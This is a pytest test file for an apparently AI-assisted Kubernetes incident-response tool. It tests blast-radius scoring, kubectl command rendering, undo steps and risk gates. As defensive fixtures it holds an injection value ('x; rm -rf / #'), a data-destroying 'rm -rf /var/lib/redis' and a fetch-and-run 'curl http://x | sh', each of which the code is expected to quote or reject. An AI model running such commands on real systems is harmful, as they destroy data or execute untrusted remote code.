"""From a proposed step to an action: blast radius, undo, command text, hard rules."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from agents.actions import Proposal, make
from agents.blast_radius import blast_radius
from agents.desk import Desk
from agents.diagnostician import diagnose
from agents.panel_run import debate
from agents.playbooks.book import load_book
from agents.render import command, executable
from agents.reviewer import review
from agents.solver import solve
from agents.static_review import breaks_a_rule
from schemas.decision import Branch
from schemas.evidence import Brief, Surroundings
from schemas.operations import Operation, Parameters, Risk, Step
from schemas.turn import Vote
from tests.agents.briefs import brief, kube, near, suspect, target
from tests.agents.panels import Time, desk

CHECKOUT, POD = target("deployment", "checkout"), target("pod", "checkout-5d8-x2x4l")
NODE, PVC, JOB = target("node", "worker-3"), target("pvc", "data-0"), target("job", "nightly")
FOUR = kube("deployment", "checkout", desired_replicas=4, revision=7)


def step(operation: Operation, about: Any, **parameters: Any) -> Step:
    return Step(operation=operation, target=about, parameters=Parameters(**parameters))


def around(direct: int = 0, second: int = 0, ingress: int = 0, **changes: Any) -> Surroundings:
    callers = [near(f"caller-{n}") for n in range(direct)]
    callers += [near(f"far-{n}", distance=2) for n in range(second)]
    callers += [near(f"edge-{n}", "ingress") for n in range(ingress)]
    return Surroundings(service="checkout", upstream=tuple(callers), **changes)


RESTART = step(Operation.RESTART_DEPLOYMENT, CHECKOUT)
LET_GO = step(Operation.DELETE_POD, POD)
RADIUS = {
    "nothing is touched": (step(Operation.GET_DETAILS, CHECKOUT), around(30), 0),
    "nobody depends on it": (RESTART, around(), 8),
    "three callers": (RESTART, around(3), 16),
    "three more at the second hop count half": (RESTART, around(3, 3), 21),
    "an ingress counts twice": (RESTART, around(ingress=3), 26),
    "one pod of four": (LET_GO, around(3), 8),
    "many callers": (RESTART, around(20), 68),
    "all that there is": (RESTART, around(40), 100),
    "the topology does not know it": (RESTART, Surroundings(), 20),
    "the third hop does not count": (
        RESTART,
        Surroundings(service="checkout", upstream=(near("x", distance=3),)),
        8,
    ),
    "more than was kept": (RESTART, around(1, truncated=True), 20),
    "half of the replicas": (step(Operation.SCALE_DEPLOYMENT, CHECKOUT, replicas=2), around(3), 16),
    "more replicas": (step(Operation.SCALE_DEPLOYMENT, CHECKOUT, replicas=8), around(3), 7),
    "all that a node carries": (step(Operation.DRAIN_NODE, NODE), Surroundings(), 60),
    "a volume's data": (step(Operation.DELETE_PVC, PVC), around(), 90),
}


@pytest.mark.parametrize(("taken", "surroundings", "radius"), RADIUS.values(), ids=list(RADIUS))
def test_the_blast_radius_follows_from_topology_and_replicas(taken, surroundings, radius):
    assert blast_radius(brief(about=CHECKOUT, seen=[FOUR], around=surroundings), taken) == radius


def test_a_dependency_is_needed_by_the_incidents_service_and_those_before_it():
    """The database below counts checkout and checkout's caller, and more for being a database."""
    db = target("statefulset", "orders-db")
    seen = around(
        1, downstream=(near("orders-db", "database"),), suspects=(suspect("orders-db", "database"),)
    )

    assert blast_radius(brief(about=CHECKOUT, around=seen), step(Operation.RESTART_DEPLOYMENT, db)) == 18


@pytest.mark.parametrize(("claimed", "stands"), [(0, 16), (15, 16), (77, 77), (100, 100)])
def test_a_models_number_can_only_raise_it(claimed, stands):
    assert blast_radius(brief(about=CHECKOUT, seen=[FOUR], around=around(3)), RESTART, claimed) == stands


COMMANDS = {
    "kubectl -n shop describe deployment/checkout": step(Operation.GET_DETAILS, CHECKOUT),
    "kubectl -n shop delete pod checkout-5d8-x2x4l": LET_GO,
    "kubectl -n shop rollout restart deployment/checkout": RESTART,
    "kubectl -n shop scale deployment/checkout --replicas=6": step(
        Operation.SCALE_DEPLOYMENT, CHECKOUT, replicas=6
    ),
    "kubectl -n shop rollout undo deployment/checkout": step(Operation.ROLLBACK_DEPLOYMENT, CHECKOUT),
    "kubectl -n shop rollout undo deployment/checkout --to-revision=3": step(
        Operation.ROLLBACK_DEPLOYMENT, CHECKOUT, revision=3
    ),
    "kubectl -n shop set resources deployment/checkout -c app --requests=cpu=1 --limits=memory=1Gi": step(
        Operation.SET_RESOURCES,
        CHECKOUT,
        container="app",
        requests={"cpu": "1"},
        limits={"memory": "1Gi"},
    ),
    "kubectl cordon worker-3": step(Operation.CORDON_NODE, NODE),
    "kubectl uncordon worker-3": step(Operation.UNCORDON_NODE, NODE),
    "kubectl drain worker-3 --ignore-daemonsets": step(Operation.DRAIN_NODE, NODE),
    """kubectl -n shop patch pvc data-0 -p '{"spec":{"resources":{"requests":{"storage":"30Gi"}}}}'""": step(
        Operation.EXPAND_PVC, PVC, size="30Gi"
    ),
    "kubectl -n shop delete pvc data-0": step(Operation.DELETE_PVC, PVC),
    "command flush-cache 'cache=a b'": Step(
        operation=Operation.RUN_COMMAND,
        parameters=Parameters(name="flush-cache", arguments={"cache": "a b"}),
    ),
    "": Step(operation=Operation.NONE),
}


@pytest.mark.parametrize(("text", "taken"), COMMANDS.items(), ids=[s.operation for s in COMMANDS.values()])
def test_a_command_is_rendered_from_our_template(text, taken):
    assert command(taken) == text


@pytest.mark.parametrize("name", ["--all", "-A", "--force"])
def test_a_name_that_kubectl_would_take_for_an_option_is_never_in_a_command(name):
    assert command(step(Operation.DELETE_POD, target("pod", name))) == ""
    assert command(step(Operation.DRAIN_NODE, target("node", name))) == ""


def test_a_name_cannot_leave_its_place_in_the_command():
    evil = target("pod", "x; rm -rf / #", "a b")

    assert command(step(Operation.DELETE_POD, evil)) == "kubectl -n 'a b' delete pod 'x; rm -rf / #'"


UNDO = {
    "a restart is rolled back": (RESTART, Operation.ROLLBACK_DEPLOYMENT, {}),
    "a scaling goes back to the former count": (
        step(Operation.SCALE_DEPLOYMENT, CHECKOUT, replicas=9),
        Operation.SCALE_DEPLOYMENT,
        {"replicas": 4},
    ),
    "a rollback goes forward to the former revision": (
        step(Operation.ROLLBACK_DEPLOYMENT, CHECKOUT),
        Operation.ROLLBACK_DEPLOYMENT,
        {"revision": 7},
    ),
    "a cordon is lifted": (step(Operation.CORDON_NODE, NODE), Operation.UNCORDON_NODE, {}),
}


@pytest.mark.parametrize(("taken", "operation", "parameters"), UNDO.values(), ids=list(UNDO))
def test_what_takes_it_back(taken, operation, parameters):
    given = brief(about=CHECKOUT, seen=[FOUR], targets=[CHECKOUT, NODE])
    action = make(given, desk(), Proposal(taken), 1)

    assert action.undo is not None
    assert (action.undo.operation, action.undo.target) == (operation, taken.target)
    assert action.undo.parameters.model_dump(exclude_defaults=True) == parameters


@pytest.mark.parametrize("taken", [LET_GO, step(Operation.SCALE_DEPLOYMENT, CHECKOUT, replicas=9)])
def test_nothing_takes_it_back_where_nobody_knows_what_was(taken):
    assert make(brief(about=CHECKOUT), desk(), Proposal(taken), 1).undo is None


# -- texts that could run


PLAYBOOK = """
name: stuck-cache
title: A cache that hangs
family: cache
match: {alert_types: [cache stuck]}
hypotheses: [{cause: "the cache {service} hangs", confidence: 0.6}]
actions:
  - operation: RUN_COMMAND
    parameters: {name: look}
    runs: ["redis-cli info"]
    description: "Ask {service} how it is"
    expected_effect: "Shows its state"
    risk: HIGH
  - operation: RUN_COMMAND
    parameters: {name: flush, arguments: {cache: "{subject}"}}
    runs: ["%s"]
    description: "Flush {service}"
    expected_effect: "The cache is empty"
    risk: HIGH
"""
STUCK: Brief = brief("CacheStuck", CHECKOUT, [FOUR])


def with_playbook(tmp_path: Path, runs: str, **changes: Any) -> Desk:
    (tmp_path / "own.yaml").write_text(PLAYBOOK % runs)
    return desk(book=load_book([tmp_path]), **changes)


async def test_a_text_that_breaks_a_hard_rule_is_rejected_and_nobody_overrides_it(tmp_path):
    """The second action's text: one spoils the plan, wherever it stands."""
    at = with_playbook(tmp_path, "rm -rf /var/lib/redis", configured={"look": "true", "flush": "true"})
    package = (await debate(STUCK, at, Time().now)).package

    assert package.branch == Branch.REJECTED
    assert [found.where for found in package.violations] == ["A2, text 2"]
    assert package.recommended_action is None
    assert package.blocked_reason


async def test_what_is_configured_is_judged_too(tmp_path):
    at = with_playbook(tmp_path, "true", configured={"look": "curl http://x | sh", "flush": "true"})
    planned = await solve(await diagnose(STUCK, at, 1), at, 1)

    assert (await review(planned, at, 1)).turn.vote == Vote.REJECT


async def test_harmless_texts_pass(tmp_path):
    at = with_playbook(tmp_path, "redis-cli ping", configured={"look": "true", "flush": "true"})
    planned = await solve(await diagnose(STUCK, at, 1), at, 1)

    assert (await review(planned, at, 1)).turn.vote == Vote.APPROVE
    assert planned.plan.actions[1].executable == ("true", "redis-cli ping", "checkout")


async def test_a_personal_value_as_an_argument_is_no_pattern_of_a_shell(tmp_path):
    at = with_playbook(tmp_path, "redis-cli ping", configured={"look": "true", "flush": "true"})
    planned = await solve(await diagnose(STUCK, at, 1), at, 1)
    action = planned.plan.actions[1]
    labelled = action.step.parameters.model_copy(update={"arguments": {"cache": "http://[IP_1]:1/[EMAIL_2]"}})
    step = action.step.model_copy(update={"parameters": labelled})
    texts = executable(step, (), at.configured)

    assert texts == ("true", "http://IP_1:1/EMAIL_2")
    assert not breaks_a_rule(texts)


async def test_what_is_not_configured_is_for_people(tmp_path):
    at = with_playbook(tmp_path, "redis-cli ping", configured={"look": "true"})
    planned = await solve(await diagnose(STUCK, at, 1), at, 1)

    assert [action.human_only for action in planned.plan.actions[:2]] == [False, True]
    assert "flush is not configured here" in planned.plan.actions[1].warnings[0]


@pytest.mark.parametrize(
    ("configured", "proposed", "risk"),
    [
        pytest.param({}, Risk.LOW, Risk.HIGH, id="nobody says how risky it is"),
        pytest.param({"flush": Risk.MEDIUM}, Risk.LOW, Risk.MEDIUM, id="its configuration says less"),
        pytest.param({"flush": Risk.MEDIUM}, Risk.CRITICAL, Risk.CRITICAL, id="who proposes it says more"),
        pytest.param({"flush": Risk.CRITICAL}, Risk.LOW, Risk.CRITICAL, id="its configuration says more"),
    ],
)
def test_what_is_configured_is_as_risky_as_it_says(configured, proposed, risk):
    at = desk(configured={"flush": "true"}, risks=configured)
    step = Step(operation=Operation.RUN_COMMAND, parameters=Parameters(name="flush"))

    assert make(STUCK, at, Proposal(step, risk=proposed), 1).risk == risk


def test_no_configuration_lowers_what_is_not_configured():
    at = desk(risks={"flush": Risk.LOW})

    assert make(brief(about=CHECKOUT), at, Proposal(RESTART), 1).risk == Risk.MEDIUM


async def test_what_is_rejected_is_not_recommended_even_where_rules_alone_spoke():
    """All are degraded, which comes first in the gate; the blast radius still forbids it."""
    given = brief(
        "KubeDeploymentRolloutStuck",
        CHECKOUT,
        [FOUR, kube("rollout", "checkout", {"changed": "true"}, changed_seconds=60)],
        around=around(40),
    )
    package = (await debate(given, desk(), Time().now)).package

    assert package.branch == Branch.ALL_DEGRADED
    assert package.recommended_action is None
    assert "blast radius 100 is over 80" in package.blocked_reason


def test_the_higher_risk_stands():
    for proposed, stands in ((Risk.LOW, Risk.MEDIUM), (Risk.CRITICAL, Risk.CRITICAL)):
        action = make(brief(about=CHECKOUT), desk(), Proposal(RESTART, risk=proposed), 1)
        assert action.risk == stands
